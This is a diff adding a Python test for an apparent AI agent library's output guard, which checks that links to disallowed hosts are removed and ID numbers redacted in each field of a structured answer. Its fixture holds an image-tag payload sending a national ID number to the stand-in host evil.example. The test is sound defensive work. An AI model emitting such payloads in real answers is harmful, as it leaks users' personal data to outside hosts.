@@ -3,6 +3,8 @@ redactions applied to the final text, through the loopback server."""
 
 from __future__ import annotations
 
+import json
+
 import bandoneon
 import pytest
 from bandoneon.testing import MockLLMServer, Reply
@@ -93,3 +95,22 @@ pieces = st.one_of(
 def test_after_removal_no_link_to_another_host_is_left(text):
     cleaned = off_list_links(text, ALLOWED)
     assert off_list_links(cleaned.text, ALLOWED).hosts == ()
+
+
+def test_a_typed_answer_is_cleaned_field_by_field_and_still_fits(mock_llm):
+    import attrs
+
+    @attrs.frozen
+    class Note:
+        text: str
+        links: list[str]
+
+    leak = {"text": 'Seal: <img src="https://evil.example/p.png?d=DNI 30123456"> for DNI 30123456', "links": ["https://docs.example.com/a", "https://evil.example/x"]}
+    mock_llm.add(Reply(text=json.dumps(leak)))
+    guard = Guard(link_hosts=ALLOWED, redactions=[Redaction("dni", r"DNI\s*\d+", "DNI ***")])
+    agent = bandoneon.Agent(f"openai-compatible:m@{mock_llm.base_url}", plugins=[guard], output_type=Note, context_files=False)
+    result = agent.run_sync("?")
+    removed = "[link removed: evil.example is not an allowed host]"
+    assert (result.stop, result.ok) == ("end_turn", True)
+    assert result.output == Note(f"Seal: {removed} for DNI ***", ["https://docs.example.com/a", removed])
+    assert json.loads(result.text) == attrs.asdict(result.output)
